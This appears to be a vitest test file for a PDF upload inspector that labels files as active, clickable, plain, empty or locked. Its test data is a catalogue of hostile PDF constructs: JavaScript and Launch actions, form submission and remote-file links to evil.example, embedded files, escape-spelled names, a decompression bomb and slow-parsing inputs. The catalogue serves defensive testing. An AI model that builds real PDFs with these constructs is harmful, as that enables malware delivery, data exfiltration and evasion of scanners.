import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { contentOf } from "@/lib/platform/files/inspection/active-content";
import { onePage } from "@/prisma/seed/pdf";
import { pdfBytes } from "../../support/factories/files";
import { packed, pageWith, pdfOf, streamOf } from "../../support/factories/hostile-pdfs";
import { longestStretch } from "../../support/longest-stretch";

const actions = {
  "a script": "/S/JavaScript/JS(app.alert\\(1\\))",
  "a script of a medium": "/S/Rendition/JS(app.alert\\(1\\))",
  "a script in a stream": "/S/Rendition/JS 9 0 R",
  "a program": "/S /Launch",
  "a file of another machine": "/S/GoToR/F(\\\\\\\\evil.example\\\\share)",
  "a file within, opened": "/S/GoToE/T<<>>",
  "a form that is sent": "/S/SubmitForm/F(https://evil.example)",
  "data that are loaded": "/S/ImportData/F(x)",
  "a film": "/S/Movie",
  "a script spelled with escapes": "/S/Java#53cript",
};

test.each(Object.entries(actions))("a PDF with %s is refused, however it stands there", (_what, action) => {
  const ways = [
    pageWith({ catalog: `/OpenAction<<${action}>>` }),
    pageWith({ page: `/Annots[<</Subtype/Link/A<<${action}>>>>]` }),
    pageWith({}, `<<${action}>>`),
    pageWith({}, packed("<</Type/Annot>>", `<<${action}>>`)),
    // Inside a string, where a lenient reader still finds the object.
    pageWith({}, `(7 0 obj <<${action}>> endobj`),
    pageWith({}, packed("(", `<<${action}>>`)),
  ];
  expect(ways.map(contentOf)).toEqual(ways.map(() => "active"));
});

test.each([
  ["files within", "/Names<</EmbeddedFiles 5 0 R>>"],
  ["a file within", "/X<</Type/Filespec/EF<</F 5 0 R>>>>"],
  ["something that happens on opening a page", "/AA<</O<</S/Named/N/Print>>>>"],
  ["the same elsewhere", "/AA 9 0 R"],
  ["a form of another kind", "/AcroForm<</XFA 5 0 R>>"],
  ["media", "/Annots[<</Subtype/RichMedia>>]"],
])("a PDF with %s is refused", (_what, catalog) => {
  expect(contentOf(pageWith({ catalog }))).toBe("active");
});

const flate = "/Type/ObjStm/N 1/First 5/Filter/FlateDecode";
test.each([
  ["tighter than any document's", streamOf(flate, deflateSync(Buffer.alloc(40 * 1024 * 1024)))],
  ["as differences", streamOf(`${flate}/DecodeParms<</Predictor 12>>`, deflateSync("10 0 <<>>"))],
  ["twice", streamOf(flate.replace("/FlateDecode", "[/ASCIIHexDecode/FlateDecode]"), "")],
  ["without saying that they are objects", streamOf("/N 1/First 5", "10 0 <</S/JavaScript>>")],
  ["from nobody knows where", streamOf(flate.replace("First 5", "First 9 0 R"), deflateSync("10 0 <<>>"))],
])("a PDF with objects packed %s is refused", (_what, stream) => {
  expect(contentOf(pageWith({}, stream))).toBe("active");
});

test.each([
  ["a link", pageWith({ page: "/Annots[<</Subtype/Link/A<</S/URI/URI(https://club.example/Launch-day)>>>>]" })],
  ["a link that is packed", pageWith({}, packed("<</S/URI/URI(https://club.example/JS/Launch)>>"))],
  ["a button that prints", pageWith({ page: "/Annots[<</Subtype/Widget/A<</S/Named/N/Print>>>>]" })],
])("a PDF with %s is drawn anew", (_what, pdf) => {
  expect(contentOf(pdf)).toBe("clickable");
});

test.each([
  ["nothing of the kind", pdfBytes()],
  ["words", onePage(["Lina Sarr", "/JavaScript /Launch"])],
  ["a page to open at", pageWith({ catalog: "/OpenAction[3 0 R/Fit]" })],
  ["a place within to go to", pageWith({ catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]>>" })],
  ["packed objects", pageWith({}, packed("<</Type/Font>>", "<</Type/FontDescriptor>>"))],
  ["letters of a font by names of two letters", pageWith({}, "<</Differences[170/AA/AB 239/EF/F0]>>")],
])("a PDF with %s is taken as it is", (_what, pdf) => {
  expect(contentOf(pdf)).toBe("plain");
});

test("a PDF without a page and one with a password get different messages", () => {
  expect(contentOf(pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"))).toBe("empty");
  expect(contentOf(pageWith({ catalog: "/Encr#79pt 9 0 R" }))).toBe("locked");
});

const patterns = [
  "/ObjStm/Filter[",
  "1 0 obj<</Type/ObjStm/Filter[",
  "9 obj/N/First stream\n",
  " obj(",
  "(",
  "<",
  "<<",
  "/#41",
];
test.each(patterns)("5 MB of %j are read quickly", async (pattern) => {
  const pdf = Buffer.from(`1 0 obj<<${pattern.repeat(Math.floor(5_000_000 / pattern.length))}`);
  expect(await longestStretch(async () => contentOf(pdf), 3_000)).toBeLessThan(3_000);
});
